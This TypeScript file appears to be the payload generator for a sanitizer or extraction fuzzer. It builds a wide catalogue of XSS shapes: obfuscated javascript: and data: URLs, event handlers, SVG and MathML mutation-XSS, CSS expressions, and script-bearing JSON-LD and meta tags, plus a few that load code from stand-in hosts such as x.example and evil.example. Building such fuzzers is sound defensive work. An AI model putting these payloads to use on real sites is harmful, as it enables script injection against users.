/**
 * Hostile markup for the fuzzer, built from parts with the case's generator: script tags, on* handlers on many
 * element types, javascript:/vbscript:/data:text/html URLs in every URL attribute (with the obfuscations browsers
 * still accept), SVG and MathML shapes (scripts, foreignObject, mutation-XSS namespace confusion), <template>,
 * <noscript> tricks, CSS that runs code, meta refresh, <base href>, and metadata (JSON-LD, OpenGraph, <title>)
 * holding markup or script URLs. Each payload names its kind, for the report's counts.
 *
 * The code they would run is always `alert(1)`-like: harmless anywhere, and easy to spot in an output.
 */
import type { Rng } from './prng';

export const PAYLOAD_KINDS = [
  'script', 'on-handler', 'js-url', 'svg', 'mathml-mxss', 'template', 'noscript', 'css', 'meta-refresh', 'base-href',
  'iframe-object', 'form', 'json-ld', 'og-meta', 'title-markup',
] as const;
export type PayloadKind = (typeof PAYLOAD_KINDS)[number];

export interface Payload {
  kind: PayloadKind;
  /** Where it goes: in the body among the article's blocks, or in <head>. */
  where: 'body' | 'head';
  html: string;
}

/** Event handler attribute names, including ones that fire with no user action. */
export const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'ontoggle', 'onbegin', 'onend', 'onpointerenter', 'onbeforetoggle', 'onscroll', 'onwheel',
  'oninput', 'onchange', 'onmessage', 'onpageshow', 'onresize', 'onstart', 'onfinish', 'onloadstart', 'onplay',
  'OnErRoR', 'ONLOAD',
];

/** Elements that get handlers (with whatever makes the handler fire on its own where there is such a thing). */
const HANDLER_HOSTS = [
  'img src=x', 'image src=x', 'svg', 'body', 'div', 'p', 'a href=#', 'span', 'video src=x', 'audio src=x',
  'video><source src=x', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus', 'button',
  'iframe', 'marquee', 'object data=x', 'embed src=x', 'table', 'td', 'h1', 'h2', 'figure', 'figcaption',
  'picture><img src=x', 'style', 'link rel=stylesheet href=x', 'math', 'blockquote', 'li', 'section', 'article',
  'frameset', 'isindex', 'keygen autofocus', 'form', 'label', 'abbr', 'time', 'mark', 'dialog open', 'summary',
];

/** Spellings of a javascript: URL that browsers (or lenient parsers) still treat as one. */
function jsUrl(rng: Rng): string {
  return rng.pick([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java&#x09;script:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
    'javascript&colon;alert(1)',
    '\u0001javascript:alert(1)',
    '&#0;javascript:alert(1)',
    'javascript://%0aalert(1)',
    'vbscript:msgbox(1)',
    'VBScript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:TEXT/HTML,<svg onload=alert(1)>',
    ' data:text/html;charset=utf-8,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>',
  ]);
}

const attrQuote = (rng: Rng, value: string): string => {
  const q = rng.pick(['"', "'", '']);
  if (!q) return value.replace(/[\s>]/g, '');
  return `${q}${value.replaceAll(q, q === '"' ? '&quot;' : '&#39;')}${q}`;
};

/** A handler attribute, in one of the spellings a tokenizer must still see as an attribute. */
function handler(rng: Rng): string {
  const name = rng.pick(HANDLERS);
  const sep = rng.pick([' ', ' ', '/', '\n', ' \t ']);
  return `${sep}${name}=${attrQuote(rng, rng.pick(['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'import("//x.example")']))}`;
}

function onHandler(rng: Rng): string {
  const host = rng.pick(HANDLER_HOSTS);
  const tag = host.split(/[\s>]/)[0];
  const style = tag === 'div' || tag === 'p' ? rng.pick(['', ' style="animation-name:x"']) : '';
  const body = rng.pick(['x', 'hover me', '']);
  return `<${host}${style}${handler(rng)}${rng.chance(0.3) ? handler(rng) : ''}>${body}</${tag}>`;
}

/** A URL attribute on an element that takes it, holding a script URL. */
function jsUrlPayload(rng: Rng): string {
  const u = () => attrQuote(rng, jsUrl(rng));
  return rng.pick([
    () => `<a href=${u()}>read the full story</a>`,
    () => `<a href=${u()} target=_blank>Baca selengkapnya</a>`,
    () => `<img src=${u()} alt="photo">`,
    () => `<img src="https://example.com/a.jpg" srcset="${jsUrl(rng).replace(/"/g, '')} 1x, https://example.com/b.jpg 2x">`,
    () => `<picture><source srcset=${u()}><img src="https://example.com/c.jpg"></picture>`,
    () => `<form action=${u()}><input type=submit value=go></form>`,
    () => `<button formaction=${u()}>go</button>`,
    () => `<form><button formaction=${u()}>x</button></form>`,
    () => `<svg><a xlink:href=${u()}><text x="0" y="15">tap</text></a></svg>`,
    () => `<svg><a href=${u()}><circle r="40"/></a></svg>`,
    () => `<math><maction actiontype="statusline" xlink:href=${u()}>m</maction></math>`,
    () => `<math href=${u()}><mi>x</mi></math>`,
    () => `<iframe src=${u()}></iframe>`,
    () => `<object data=${u()}></object>`,
    () => `<embed src=${u()}>`,
    () => `<video poster=${u()}></video>`,
    () => `<blockquote cite=${u()}>quote</blockquote>`,
    () => `<table background=${u()}><tr><td>x</td></tr></table>`,
    () => `<area href=${u()}>`,
    () => `<a ping=${u()} href="https://example.com/">x</a>`,
    () => `<img lowsrc=${u()} dynsrc=${u()} src="https://example.com/d.jpg">`,
    () => `<a href="https://example.com/" data-href=${u()}>ok</a>`,
  ])();
}

function svg(rng: Rng): string {
  return rng.pick([
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:,alert(1)"></script></svg>',
    '<svg onload=alert(1)>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/><a><text y="20">x</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"/></svg>',
    '<svg><style>@import "javascript:alert(1)";</style></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><image href="javascript:alert(1)"/></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  ]);
}

function mathml(rng: Rng): string {
  return rng.pick([
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><malignmark><style><img src=x onerror=alert(1)></style></malignmark></math>',
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<math><style><img src=x onerror=alert(1)></style></math>',
  ]);
}

function template(rng: Rng): string {
  return rng.pick([
    '<template><img src=x onerror=alert(1)></template>',
    '<template><script>alert(1)</script></template>',
    '<div><template shadowrootmode="open"><img src=x onerror=alert(1)><slot></slot></template>light text</div>',
    '<template><template><svg onload=alert(1)></template></template>',
    '<p>Text <template>hidden <a href="javascript:alert(1)">a</a></template> after.</p>',
  ]);
}

function noscript(rng: Rng): string {
  return rng.pick([
    '<noscript><img src=x onerror=alert(1)></noscript>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
    '<figure><img class="lazy" data-src="https://example.com/lazy.jpg" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><noscript><img src="javascript:alert(1)" onerror="alert(1)"></noscript></figure>',
    '<figure><img class="lazyload" data-src="https://example.com/p.jpg"><noscript><img src="https://example.com/p.jpg" onload="alert(1)" srcset="javascript:alert(1) 2x"></noscript><figcaption>Caption</figcaption></figure>',
    '<noscript><iframe srcdoc="<script>alert(1)</script>"></iframe></noscript>',
    '<noscript><meta http-equiv="refresh" content="0;url=javascript:alert(1)"></noscript>',
  ]);
}

function css(rng: Rng): string {
  return rng.pick([
    '<div style="width:expression(alert(1))">styled</div>',
    '<p style="background:url(javascript:alert(1))">styled paragraph</p>',
    '<p style="background-image:url(&quot;javascript:alert(1)&quot;)">x</p>',
    '<span style="behavior:url(x.htc)">x</span>',
    '<div style="-moz-binding:url(http://x.example/x.xml#x)">x</div>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<style>@import url(javascript:alert(1));</style>',
    '<style>*{x:expression(alert(1))}</style>',
    '<div style="x:e\\x\\p\\r\\e\\s\\s\\i\\o\\n(alert(1))">x</div>',
    '<div style="background:url(data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;)">x</div>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
  ]);
}

function iframeObject(rng: Rng): string {
  return rng.pick([
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://www.youtube.com/embed/abc123" srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe src="https://www.youtube.com/embed/abc123" onload="alert(1)"></iframe>',
    '<iframe src="https://evil.example/embed/abc"></iframe>',
    '<iframe src="https://www.youtube.com/embed/../../evil"></iframe>',
    '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-scripts allow-top-navigation allow-forms"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<object type="text/html" data="https://evil.example/"><param name="x" value="y"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<embed type="image/svg+xml" src="https://evil.example/x.svg">',
    '<applet code="x.class"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<portal src="https://evil.example/"></portal>',
  ]);
}

function form(rng: Rng): string {
  return rng.pick([
    '<form action="javascript:alert(1)"><input name="q"><button>Search</button></form>',
    '<form id="f"></form><button form="f" formaction="javascript:alert(1)">go</button>',
    '<input type="image" src="x" onerror="alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    '<form><input type="password" name="p"><input type="submit"></form>',
    '<select><option><img src=x onerror=alert(1)></option></select>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<keygen autofocus onfocus="alert(1)">',
  ]);
}

/** A JSON string literal holding `s`; sometimes with "</" left raw, which ends the script block early. */
const json = (rng: Rng, s: string): string => {
  const text = JSON.stringify(s);
  return rng.chance(0.7) ? text.replace(/</g, '\\u003c') : text;
};

const MARKUP = [
  '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
  '"><img src=x onerror=alert(1)>', '</title><script>alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
];

function jsonLd(rng: Rng, prose: () => string): string {
  const m = () => rng.pick(MARKUP);
  const body = rng.chance(0.5) ? `${prose()} ${m()} ${prose()}` : `<p>${prose()}</p>${m()}<p>${prose()}</p>`;
  const fields = [
    `"@context":"https://schema.org"`,
    `"@type":${rng.pick(['"NewsArticle"', '"Article"', '["NewsArticle","BlogPosting"]', '"ReportageNews"'])}`,
    `"headline":${json(rng, `Headline ${m()}`)}`,
    `"articleBody":${json(rng, body)}`,
    `"author":${rng.pick([
      () => `{"@type":"Person","name":${json(rng, `Budi ${m()}`)}}`,
      () => `[{"name":${json(rng, m())}},{"name":"Sari"}]`,
      () => json(rng, m()),
    ])()}`,
    `"image":${rng.pick([json(rng, jsUrl(rng).replace(/&#?\w+;/g, '')), `{"url":${json(rng, 'javascript:alert(1)')}}`, `[${json(rng, 'data:text/html,<script>alert(1)</script>')}]`])}`,
    `"datePublished":${json(rng, rng.pick(['2024-05-01T10:00:00+07:00', '<img src=x onerror=alert(1)>', 'not a date']))}`,
    `"description":${json(rng, m())}`,
    `"publisher":{"name":${json(rng, m())},"logo":{"url":"javascript:alert(1)"}}`,
  ];
  const picked = rng.shuffle(fields).slice(0, rng.range(3, fields.length));
  if (!picked.some((f) => f.startsWith('"@type"'))) picked.unshift('"@type":"NewsArticle"');
  const obj = `{${picked.join(',')}}`;
  return `<script type="application/ld+json">${rng.chance(0.2) ? `[${obj}]` : rng.chance(0.1) ? `{"@graph":[${obj}]}` : obj}</script>`;
}

const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

function ogMeta(rng: Rng): string {
  const m = rng.pick(MARKUP);
  const prop = rng.pick([
    ['property', 'og:title', m], ['property', 'og:image', jsUrl(rng)], ['property', 'og:image', 'data:text/html,<script>alert(1)</script>'],
    ['property', 'og:image:secure_url', 'javascript:alert(1)'], ['name', 'twitter:image', 'vbscript:msgbox(1)'],
    ['property', 'og:image:alt', m], ['property', 'og:site_name', m], ['property', 'og:description', m],
    ['name', 'description', m], ['name', 'author', m], ['property', 'article:author', m], ['name', 'byl', `By ${m}`],
    ['name', 'twitter:title', m], ['property', 'og:url', 'javascript:alert(1)'], ['property', 'article:published_time', m],
    ['name', 'content_author', m], ['itemprop', 'headline', m], ['itemprop', 'image', 'javascript:alert(1)'],
  ] as const);
  const raw = rng.chance(0.15);
  return `<meta ${prop[0]}="${prop[1]}" content=${raw ? `"${prop[2].replace(/"/g, "'")}"` : `"${esc(prop[2])}"`}>`;
}

/** A payload of `kind` (or of a kind the generator picks). `prose` gives plain sentences to surround it with. */
export function makePayload(rng: Rng, prose: () => string, kind: PayloadKind = rng.pick(PAYLOAD_KINDS)): Payload {
  switch (kind) {
    case 'script':
      return { kind, where: rng.chance(0.2) ? 'head' : 'body', html: rng.pick([
        '<script>alert(1)</script>', '<SCRIPT SRC="//x.example/x.js"></SCRIPT>', '<script type="module">alert(1)</script>',
        '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>/*</script><img src=x onerror=alert(1)>*/</script>',
        '<script\n>alert(1)</script\n>', '<script>document.write("<img src=x onerror=alert(1)>")</script>',
      ]) };
    case 'on-handler':
      return { kind, where: 'body', html: onHandler(rng) };
    case 'js-url':
      return { kind, where: 'body', html: jsUrlPayload(rng) };
    case 'svg':
      return { kind, where: 'body', html: svg(rng) };
    case 'mathml-mxss':
      return { kind, where: 'body', html: mathml(rng) };
    case 'template':
      return { kind, where: 'body', html: template(rng) };
    case 'noscript':
      return { kind, where: 'body', html: noscript(rng) };
    case 'css':
      return { kind, where: rng.chance(0.2) ? 'head' : 'body', html: css(rng) };
    case 'meta-refresh':
      return { kind, where: rng.chance(0.7) ? 'head' : 'body', html: `<meta http-equiv="${rng.pick(['refresh', 'Refresh', 'REFRESH'])}" content="${rng.pick(['0;url=javascript:alert(1)', '0; URL=data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;', '5;url=https://evil.example/'])}">` };
    case 'base-href':
      return { kind, where: rng.chance(0.7) ? 'head' : 'body', html: `<base href="${rng.pick(['javascript:alert(1)//', 'https://evil.example/', 'data:text/html,x/', '//evil.example/', 'vbscript:x/'])}"${rng.chance(0.3) ? ' target="_top"' : ''}>` };
    case 'iframe-object':
      return { kind, where: 'body', html: iframeObject(rng) };
    case 'form':
      return { kind, where: 'body', html: form(rng) };
    case 'json-ld':
      return { kind, where: rng.chance(0.85) ? 'head' : 'body', html: jsonLd(rng, prose) };
    case 'og-meta':
      return { kind, where: 'head', html: ogMeta(rng) };
    case 'title-markup':
      return { kind, where: 'head', html: `<title>${rng.pick([
        '&lt;img src=x onerror=alert(1)&gt; Headline', '</title><script>alert(1)</script><title>', 'Headline <script>alert(1)</script>',
        '<img src=x onerror=alert(1)> | Site', 'Headline &lt;/title&gt;&lt;svg onload=alert(1)&gt;',
      ])}</title>` };
  }
}

/** A payload in a paragraph of prose, so that extraction has a reason to keep it. */
export function inProse(rng: Rng, payload: Payload, prose: () => string): string {
  if (payload.where === 'head' || rng.chance(0.35)) return payload.html;
  return `<p>${prose()} ${payload.html} ${prose()}</p>`;
}
